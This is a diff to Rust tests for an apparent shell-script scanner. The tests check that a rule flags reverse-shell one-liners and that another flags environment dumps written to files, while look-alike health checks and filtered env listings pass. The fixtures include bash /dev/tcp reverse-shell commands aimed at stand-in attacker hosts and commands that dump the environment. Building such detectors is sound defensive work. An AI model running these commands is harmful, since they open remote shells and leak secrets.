@@ -84,6 +84,7 @@ mod tests {
             "0<&196;exec 196<>/dev/tcp/evil.example.net/443; sh <&196 >&196 2>&196\n",
             "/bin/bash -l > /dev/tcp/203.0.113.7/4444 0<&1 2>&1\n",
             "bash -i >& /dev/tcp/$H/4444 0>&1\n",
+            "bash -i >& /dev/tcp/<ATTACKER_IP>/4444 0>&1\n",
         ] {
             assert!(
                 rules("s.sh", text).contains(&("SK720", Severity::Critical)),
@@ -94,10 +95,41 @@ mod tests {
             "healthcheck: bash -c '</dev/tcp/127.0.0.1/8443' || exit 1\n",
             "timeout 1 bash -c \"</dev/tcp/$HOST/$PORT\" && echo open\n",
             "exec 3<>/dev/tcp/localhost/6379; printf 'PING\\r\\n' >&3\n",
+            "timeout 5 bash -c \"</dev/tcp/<MASTER_IP>/6443\"\n",
+            "bash -c '</dev/tcp/{host}/22' && echo up\n",
+            "(echo > /dev/tcp/host/22) 2>/dev/null && echo open\n",
         ] {
             let found = rules("s.sh", text);
             assert!(
                 !found.iter().any(|(c, _)| *c == "SK720"),
+                "{text}: {found:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn the_environment_written_to_a_file_and_look_alikes() {
+        for text in [
+            "docker exec app env > /tmp/e.txt\n",
+            "echo \"$(printenv)\" >> out.log\n",
+            "ssh host -- env > remote.txt\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                found
+                    .iter()
+                    .any(|(c, s)| *c == "SK621" && *s >= Severity::Medium),
+                "{text}: {found:?}"
+            );
+        }
+        for text in [
+            "railway run -p <project-id> -e dev -s backend -- env | grep RAILWAY\n",
+            "kubectl exec -n <NS> <POD> -- env | grep -E '^DD_'\n",
+            "bws secret list <PROJECT_ID> --output env > .env.projectname\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                !found.contains(&("SK621", Severity::Medium)),
                 "{text}: {found:?}"
             );
         }
